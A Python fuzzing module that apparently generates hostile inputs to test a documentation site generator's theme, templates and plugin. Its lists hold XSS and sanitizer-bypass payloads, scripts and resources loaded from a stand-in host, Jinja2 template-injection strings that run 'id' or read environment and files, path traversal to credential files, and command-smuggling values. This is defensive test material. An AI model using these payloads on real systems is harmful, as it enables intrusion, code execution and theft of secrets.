"""What is hidden in inputs: markup that runs, addresses that load, templates that escape, paths that leave, odd signs.

Written after what has been published of attacks on browsers, sanitizers, Markdown, Jinja2, MkDocs, YAML and XML. Every
script calls `pwn`, every request goes to evil.example: both are counted where pages are opened.
"""

from random import Random

RUN = "pwn(1)"
HOST = "https://evil.example"

ELEMENTS = tuple(
    "a abbr applet area article aside audio b base bdi bgsound blink body br button canvas center code custom-x data "
    "datalist dd details dialog dir div dl dt em embed fieldset figure font footer foreignObject form frame frameset h1 "
    "head header html i iframe iframe image img input isindex ins kbd keygen label li link listing main map mark marquee "
    "math menu menuitem meta meter mglyph mtext annotation-xml nav nobr noembed noframes noscript object ol optgroup "
    "option output p param picture plaintext portal pre progress q rb ruby s samp script section select shadow slot "
    "small source span strong style sub summary sup svg table tbody td template textarea tfoot th time title tr track "
    "tt u ul use var video wbr xmp xss animate set animateTransform desc".split()
)
HANDLERS = tuple(
    "onload onerror onclick onfocus onblur ontoggle onstart onbegin onend onrepeat onmouseover onpointerenter "
    "onpointerrawupdate onanimationstart onanimationend ontransitionend onwheel onscroll onscrollend onresize onhashchange "
    "onpageshow onpopstate onmessage oncanplay onloadstart onplay ontimeupdate onbeforetoggle onbeforematch onsearch "
    "oncontentvisibilityautostatechange onfocusin onsecuritypolicyviolation ONLOAD oNeRRoR on onx".split()
)
LOADING = tuple(
    "src srcset href xlink:href background poster data action formaction cite longdesc ping code codebase archive classid "
    "manifest profile usemap lowsrc dynsrc icon srcdoc imagesrcset from to values by style filter fill mask clip-path "
    "content http-equiv target xml:base is slot ping lang".split()
)
ADDRESSES = (
    "javascript:pwn(1)",
    "JaVaScRiPt:pwn(1)",
    " javascript:pwn(1)",
    "\x01javascript:pwn(1)",
    "java\tscript:pwn(1)",
    "java\nscript:pwn(1)",
    "java\rscript:pwn(1)",
    "java&#9;script:pwn(1)",
    "java&Tab;script:pwn(1)",
    "java&NewLine;script:pwn(1)",
    "&#106;avascript:pwn(1)",
    "&#x6a;avascript:pwn(1)",
    "&#0000106avascript:pwn(1)",
    "&#x0006Aavascript&colon;pwn(1)",
    "javascript&colon;pwn(1)",
    "javascript&#58;pwn&lpar;1&rpar;",
    "%6aavascript:pwn(1)",
    "javascript://evil.example/%0apwn(1)",
    "javascript:/*https://*/pwn(1)",
    "\ufeffjavascript:pwn(1)",
    "\u00a0javascript:pwn(1)",
    "\u2028javascript:pwn(1)",
    "ｊavascript:pwn(1)",
    "vbscript:pwn(1)",
    "livescript:pwn(1)",
    "data:text/html,<script>pwn(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(1)'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduKDEpIi8+",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "view-source:file:///etc/passwd",
    "file:///etc/passwd",
    "jar:https://evil.example!/x",
    "mhtml:https://evil.example!x",
    "ws://evil.example/",
    "https://evil.example/1.png",
    "HTTPS:evil.example/2.png",
    "https:/evil.example/3.png",
    "https:\\\\evil.example/4.png",
    "//evil.example/5.png",
    "///evil.example/6.png",
    "/\\evil.example/7.png",
    "\\\\evil.example/8.png",
    "/\t/evil.example/9.png",
    "\t//evil.example/10.png",
    "/&#9;/evil.example/11.png",
    "&#47;&#47;evil.example/12.png",
    "//evil%2eexample/13.png",
    "//user@evil.example/14.png",
    "https://evil。example/15.png",
    "x.png, https://evil.example/16.png 2x",
    "x.png 1x,//evil.example/17.png 2x",
    "https://[::1",
    "http://a:b:c/",
    "mailto:a@b?attach=/etc/passwd",
    "tel:&#34;onclick=pwn(1)",
    "?x=<script>pwn(1)</script>",
    '#"><img src=x onerror=pwn(1)>',
    "#__search",
    ".//evil.example/18.png",
    "..//..//evil.example",
)
STYLES = (
    "background:url(https://evil.example/s1.png)",
    "background:url('//evil.example/s2.png')",
    "background:u\\72l(https://evil.example/s3.png)",
    "background-image:image-set('https://evil.example/s4.png' 1x)",
    "list-style:url(https://evil.example/s5.png)",
    "cursor:url(https://evil.example/s6.cur),auto",
    "position:fixed;inset:0;z-index:9999",
    "behavior:url(#x);-moz-binding:url(//evil.example/x#x)",
    "width:expression(pwn(1))",
    "--x:url(//evil.example/s7.png);background:var(--x)",
    "@import url(//evil.example/s8.css)",
    "}</style><img src=x onerror=pwn(1)>",
)
# Names that the theme's scripts look up, and those by which a document itself is overlaid.
CLOBBERING = tuple(
    "__config __palette __palette_0 __drawer __search __toc __skip __nav_0 __tabbed_1 __consent __comments searchbox "
    "search cookies document body head forms attributes children innerHTML getElementById location parent top self "
    "defaultView currentScript implementation content-tabs md-search constructor __proto__ hasOwnProperty toString "
    "fn:1 fnref:1 fn:__config p-1 pwn content".split()
)
XSS = (
    "<script>pwn(1)</script>",
    "<ScRiPt >pwn(1)</sCrIpT\n>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>pwn(1)</script>",
    "<script\x0cx>pwn(1)</script>",
    "<script>/*<img src='*/pwn(1)//'>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "<<script>pwn(1)//<</script>",
    "<scr<script>ipt>pwn(1)</scr</script>ipt>",
    "<img src=x onerror=pwn(1)>",
    "<img src=x onerror=pwn(1)//",
    "<img/src=x/onerror=pwn(1)>",
    "<img\nsrc=x\nonerror\n=\npwn(1)\n>",
    "<img src=`x`onerror=pwn(1)>",
    "<img \x00src=x onerror=pwn(1)>",
    "<image src=x onerror=pwn(1)>",
    '<img src="x` `<script>pwn(1)</script>"` `>',
    "<svg onload=pwn(1)>",
    "<svg/onload=pwn(1)//",
    "<svg><script>pwn(1)</script></svg>",
    "<svg><script href=data:,pwn(1) />",
    "<svg><script xlink:href=//evil.example/y.js></script>",
    "<svg><animate onbegin=pwn(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:pwn(1) /><text x=20 y=20>x</text></a>",
    "<svg><set attributeName=onmouseover to=pwn(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn(1)</script>'></foreignObject></svg>",
    "<svg><style>@import '//evil.example/z.css';</style></svg>",
    "<svg><image href=https://evil.example/i.svg /></svg>",
    "<svg><feImage href=https://evil.example/f.png /></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=pwn(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn(1)&gt;">',
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=pwn(1) src>'>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwn(1)></style></annotation-xml></math>",
    "<math href=javascript:pwn(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn(1)>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(1)>",
    "<form><button formaction=javascript:pwn(1)>x",
    "<form action=https://evil.example/ id=x></form><button form=x>x",
    '<noscript><p title="</noscript><img src=x onerror=pwn(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=pwn(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=pwn(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=pwn(1)>">',
    '<title><p title="</title><img src=x onerror=pwn(1)>">',
    "<template><img src=x onerror=pwn(1)></template>",
    "<select><template shadowrootmode=open><img src=x onerror=pwn(1)></template></select>",
    "<listing>&lt;img onerror=pwn(1) src=1&gt;</listing>",
    "<plaintext>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>",
    "<object data=https://evil.example/o></object>",
    "<embed src=javascript:pwn(1)>",
    "<base href=https://evil.example/>",
    "<base target=evil><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;javascript:pwn(1)'>",
    "<style>*{background:url(//evil.example/p.png)}</style>",
    "<style>@import'//evil.example/q.css'</style>",
    "<details open ontoggle=pwn(1)>x</details>",
    '<details open/ontoggle="pwn(1)">x</details>',
    "<video><source onerror=pwn(1)>",
    "<video poster=https://evil.example/v.png src=https://evil.example/v.mp4>",
    "<audio src=x onerror=pwn(1)>",
    "<input autofocus onfocus=pwn(1)>",
    "<select autofocus onfocus=pwn(1)>",
    "<body onload=pwn(1) background=https://evil.example/b.png>",
    "<table background=//evil.example/t.png><td background=//evil.example/u.png>",
    "<marquee onstart=pwn(1)>x",
    "<div style='background:url(//evil.example/d.png)'>x</div>",
    "<div onpointerrawupdate=pwn(1) style=position:fixed;inset:0>x</div>",
    "<a href=javascript:pwn(1) autofocus onfocus=pwn(1)>x</a>",
    "<a href='https://x' ping=https://evil.example/ping>x</a>",
    '<a id=__config>{"base":"https://evil.example"}</a>',
    "<a id=a><a id=a name=b href=javascript:pwn(1)>",
    "<form id=document><input name=body></form>",
    "<img name=getElementById id=cookie>",
    "<!--><img src=x onerror=pwn(1)>-->",
    "<!--!><img src=x onerror=pwn(1)>-->",
    "<!-- --!><img src=x onerror=pwn(1)> -->",
    "<!--<!-- --><img src=x onerror=pwn(1)>",
    "<![CDATA[<img src=x onerror=pwn(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=pwn(1)>]]>",
    '<?xml-stylesheet href="javascript:pwn(1)"?>',
    "<?php ><img src=x onerror=pwn(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</p><img src=x onerror=pwn(1)>",
    "</script><script>pwn(1)</script>",
    '"><img src=x onerror=pwn(1)>',
    "' onmouseover=pwn(1) autofocus onfocus=pwn(1) x='",
    '" style=background:url(//evil.example/a) x="',
    "&lt;img src=x onerror=pwn(1)&gt;",
    "&amp;lt;script&amp;gt;pwn(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;pwn(1)&#60;/script&#62;",
    "\\x3cimg src=x onerror=pwn(1)\\x3e",
    "\\u003cimg src=x onerror=pwn(1)\\u003e",
    "＜img src=x onerror=pwn(1)＞",
    "+ADw-script+AD4-pwn(1)+ADw-/script+AD4-",
    "\ue000img src=x onerror=pwn(1)>",
    "\x02wzxhzdk:0\x03",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03#60;img src=x onerror=pwn(1)>",
    "<review-date id=x datetime='<img src=x onerror=pwn(1)>' data-late='<img src=x onerror=pwn(1)>'>x</review-date>",
    "<div data-md-component=search data-md-url=//evil.example>x</div>",
    "<pre class=mermaid>graph TD; A[<img src=x onerror=pwn(1)>]</pre>",
    '<div class="tabbed-set"><input id=__tabbed_1 onfocus=pwn(1) autofocus></div>',
    "<x-y onclick=pwn(1) tabindex=1 autofocus onfocus=pwn(1)>x</x-y>",
    "{{constructor.constructor('pwn(1)')()}}",
    "${pwn(1)}",
)
SECRETS = (
    "@OUTSIDE@/secret.txt",
    "@OUTSIDE@/secret.html",
    "@OUTSIDE@/secret.svg",
    "../outside/secret.txt",
    "../../outside/secret.md",
    "../../../outside/secret.html",
    "../../../../outside/secret.svg",
    "..%2f..%2foutside%2fsecret.txt",
    "..\\..\\outside\\secret.txt",
    "/proc/self/environ",
    "/etc/passwd",
    "file:///etc/passwd",
    "@OUTSIDE@/new",
    "../outside/new.html",
)
PATHS = (
    *SECRETS,
    "..",
    ".",
    "/",
    "//",
    "~",
    "~root/.ssh/id_rsa",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share\\x",
    "a/../../b",
    "./././x",
    "site/../../outside",
    "site/pages/../../../outside",
    "con",
    "nul.txt",
    "/dev/zero",
    "/dev/stdin",
    "/dev/tty",
    "/proc/self/fd/0",
    "x" * 300,
    "a/" * 200,
    "x\x00y",
    "имя файла.md",
    "й.md",
    "-rf",
    "$(touch @OUTSIDE@/new)",
    "`id`",
    "%s%n",
    "*",
    "[",
    "",
)
JINJA = (
    "{{ config.theme.get_env().from_string('{{ 7*7 }}').render() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ self._TemplateReference__context.environment }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__cl'~'ass__'] }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ (x|attr('__init__')).__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__.__builtins__.open('@OUTSIDE@/secret.txt').read() }}",
    "{{ page.file.generated }}{{ page.file.content_bytes }}",
    "{{ page.file.abs_src_path }}{{ config.config_file_path }}{{ config.docs_dir }}",
    "{{ config.plugins['salesbook'].on_env.__globals__ }}",
    "{{ [config]|map(attribute='load_dict')|list }}",
    "{{ ['a']|map(attribute='format')|list }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(page) }}",
    "{{ '%(x)s'|format(x=page) }}{{ '%s' % page }}",
    "{{ 'a'.format_map }}{{ 'a'.upper }}{{ client.upper }}",
    "{{ {}.update }}{{ [].append }}{{ {}.items }}{{ {}.get('x') }}",
    "{{ loop }}{% for x in [1] %}{{ loop.__init__ }}{{ loop.cycle }}{% endfor %}",
    "{% macro m() %}{{ caller.__init__ }}{{ varargs }}{{ kwargs }}{% endmacro %}{% call m(1, b=2) %}{% endcall %}",
    "{% macro m(x) %}{{ m(x ~ x) }}{% endmacro %}{{ m('x') }}",
    "{% import 'envelope.html' as e %}{{ e.__dict__ }}{{ e._environment }}",
    "{% include '@OUTSIDE@/secret.txt' %}",
    "{% include '../../../outside/secret.txt' %}",
    "{% include '/etc/passwd' ignore missing %}",
    "{% include ['../outside/secret.txt', 'envelope.html', 'main.html'] %}",
    "{% extends '../outside/secret.html' %}",
    "{% extends self %}{% extends none %}{% extends 'main.html' %}",
    "{% import '../../outside/secret.txt' as x %}{{ x }}",
    "{% from 'x' import y with context %}",
    "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "{% for a in range(999999999999) %}x{% endfor %}",
    "{{ 'x' * 999999999 }}{{ [1] * 999999999 }}{{ ('x',) * 99999999 }}",
    "{{ 9 ** 9 ** 9 }}{{ 2 ** 99999999 }}{{ 1 // 0 }}{{ 1 / 0 }}{{ 1 % 0 }}{{ 0.0 ** -1 }}{{ 1e308 * 10 }}",
    "{{ 'x'|center(999999999) }}{{ 'x'|indent(99999999) }}{{ 'x'|wordwrap(0) }}{{ 'x'|truncate(-1) }}",
    "{{ 'aa'|replace('a', 'a' * 9999) }}{{ 'a'|replace('', 'b' * 99999) }}",
    "{{ range(1000000)|list|length }}{{ range(99999)|join }}{{ 'a'|list|batch(0)|list }}{{ 'a'|slice(0)|list }}",
    "{% set x = namespace(s='aaaaaaaa') %}{% for n in range(60) %}{% set x.s = x.s ~ x.s %}{% endfor %}{{ x.s }}",
    "{% set x.y = 1 %}{% set x = namespace(__class__=1) %}{{ x.__class__ }}",
    "{% filter upper %}{{ x }}{% endfilter %}{% filter map('attr', '__class__') %}x{% endfilter %}",
    "{{ x|safe }}{{ x|forceescape }}{{ '<img src=x onerror=pwn(1)>'|safe }}{{ x|tojson }}{{ x|xmlattr }}",
    "{{ {'onclick': 'pwn(1)'}|xmlattr }}{{ 'javascript:pwn(1)'|urlize }}{{ 'x'|urlize(target='\"onclick=pwn(1)') }}",
    "{{ x|random }}{{ x|pprint }}{{ x|groupby('__class__') }}{{ x|sort(attribute='__class__') }}{{ x|sum }}",
    "{{ x|map('map', 'x')|list }}{{ x|select('callable')|list }}{{ [x]|map('attr', '__init__')|list }}",
    "{{ none|plain }}{{ none|prose }}{{ 1|plain }}{{ []|plain }}{{ page|plain }}{{ item|plain }}{{ undefined|plain }}",
    "{{ page.meta }}{{ page.content }}{{ page.toc }}{{ nav }}{{ config }}{{ book }}{{ item }}{{ items }}",
    "{% autoescape false %}<img src=x onerror=pwn(1)>{% endautoescape %}",
    "{% raw %}{{ x }}{% endraw %}{# comment #}{#- -#}{% raw %}",
    "{% debug %}{% do x.append(1) %}{% continue %}{% break %}{% trans %}{% endtrans %}",
    "{% block a %}{% block a %}{% endblock %}{% endblock %}{{ self.a() }}{{ super() }}",
    "{% block content %}{{ self.content() }}{% endblock %}",
    "{% if x is defined and x is callable and x is sameas x %}{% endif %}{{ x is divisibleby 0 }}{{ x is in 1 }}",
    "{{ x[1:2:0] }}{{ x[::-1] }}{{ x['a', 'b'] }}{{ x.0 }}{{ x.__getitem__ }}{{ x[''] }}",
    "{{ ((((((((((x)))))))))) }}{{ not not not not not not x }}{{ -+-+-+-+x }}",
    "{% for k, v in x.items() recursive %}{{ loop(x.items()) }}{% endfor %}",
    "{% for x in x recursive %}{{ loop([[1]]) }}{{ loop(x) }}{% endfor %}",
    "{% with %}{% set ns = namespace() %}{% set ns.ns = ns %}{{ ns }}{% endwith %}",
    "{{ 'a' ~ 1 ~ none ~ true ~ 1.5 ~ [] ~ {} }}{{ 1 < 'a' }}{{ none < 1 }}{{ {} + [] }}{{ -'a' }}",
    "{{ env }}{{ environ }}{{ os.environ }}{{ lookup('env', 'SALESBOOK_FUZZ_SECRET') }}{{ config.extra }}",
)
UNICODE = (
    "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\u200e", "\u2028", "\u2029", "\u0085", "\u00a0", "\u00ad",
    "\ufeff", "\ufffe", "\uffff", "\ufffd", "\ue000", "\uf8ff", "\u0301" * 50, "й", "ß", "İ", "ı", "ﬀ", "ﷺ", "Ǆ", "K",
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e007f", "\U0010ffff", "\U0001d400",
    "О", "P", "аbс", "١٢٣", "²", "Ⅳ", "㋀", "\u0338", "\u1680", "\u180e", "\u3000", "\u115f", "\u034f", "\ud800", "\udfff",
    "\udce0",
)  # fmt: skip
CONTROL = (
    "\x00", "\x01", "\x02", "\x03", "\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1a", "\x1b[31m", "\x1b]0;pwn\x07",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J", "\x1b[6n", "\x1bP$q\x1b\\", "\x1b]52;c;cHdu\x07",
    "\x1f", "\x7f", "\x80", "\x85", "\x8d", "\x90", "\x9b31m", "\x9d0;pwn\x9c", "\x9f", "\r", "\r\n", "\n\r", "\t", "\v",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "-1", "1e400", "-1e400", "1e-400", "1e999999999", ".nan", ".inf", "-.Inf", "NaN", "Infinity", "0x7f",
    "0b1", "0o17", "0777", "1_000", "1__0", "12:30:45", "190:20:30", "99999999999999999999999", "9" * 400, "9" * 5000,
    "2147483648", "9223372036854775808", "-9223372036854775809", "0.1e1", "1.", ".5", "+5", "1,5", "١", "½", "1e5",
    "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2026-11-21T25:61:61Z", "24:00", "-5:00", "25.11.2026",
)  # fmt: skip
RICH = (
    "[bold red]x[/]",
    "[/]",
    "[link=https://evil.example]x[/link]",
    "[[x]]",
    "\\[x]",
    "[blink]",
    ":smile:",
    "[@click=x]",
)

_SHARES = (
    (XSS, 6),
    (ADDRESSES, 3),
    (JINJA, 2),
    (UNICODE, 3),
    (CONTROL, 2),
    (NUMBERS, 1),
    (PATHS, 2),
    (RICH, 1),
    (CLOBBERING, 1),
    (STYLES, 1),
)
_ORDINARY = "Клиент сам назвал день и сумму; мы отвечаем за 15 минут. Please call back — ОП-001, п. 4 «Скидки»".split()


def hostile(random: Random) -> str:
    """Return something that would do harm."""
    return random.choice(random.choices([words for words, _n in _SHARES], [n for _words, n in _SHARES])[0])


def sentence(random: Random, mischief: float = 0.3) -> str:
    """Return a few words on one line, hostile ones among them."""
    words = [
        hostile(random) if random.random() < mischief else random.choice(_ORDINARY)
        for _n in range(random.randint(1, 7))
    ]
    return " ".join(" ".join(words).split("\n"))


def tag(random: Random) -> str:
    """Return an HTML tag made of any parts: an element, attributes, odd quotes and separators, perhaps not closed."""
    element = random.choice(ELEMENTS)
    parts = [random.choice(("<", "<", "<", "</", "< ", "<\x00", "&lt;")) + _odd_case(random, element)]
    for _n in range(random.choice((0, 1, 1, 2, 3))):
        kind = random.random()
        if kind < 0.4:
            name, value = random.choice(HANDLERS), RUN
        elif kind < 0.8:
            name, value = random.choice(LOADING), random.choice((*ADDRESSES, *STYLES))
        else:
            name, value = random.choice(("id", "name", "class", "data-md-component")), random.choice(CLOBBERING)
        quote = random.choice(('"', "'", "", "`", '"'))
        parts.append(random.choice((" ", "/", "\n", "\t", "\x0c", "  ", '"')) + _odd_case(random, name))
        parts.append(random.choice(("=", " = ", "=\n", "")) + quote + value + quote)
    parts.append(random.choice((">", ">", "/>", " >", "", ">>")))
    inner = random.choice(("", "x", random.choice(XSS)))
    return "".join(parts) + inner + random.choice((f"</{element}>", "", f"</{element}\n>"))


def nested(random: Random, opening: str, closing: str, inner: str, most: int = 2_000) -> str:
    """Return something nested to a depth that few readers expect."""
    depth = random.choice((2, 5, 30, 110, 300, most))
    return opening * depth + inner + closing * random.choice((depth, depth, depth - 1, 0))


def long(random: Random, piece: str, most: int = 1_000_000) -> str:
    """Return a piece repeated up to a length between a thousand and `most` characters, short ones more often."""
    length = int(1_000 * (most / 1_000) ** random.random())
    return (piece or "x") * max(1, length // max(1, len(piece)))


def _odd_case(random: Random, word: str) -> str:
    if random.random() < 0.7:
        return word
    return "".join(random.choice((c.lower(), c.upper())) for c in word)
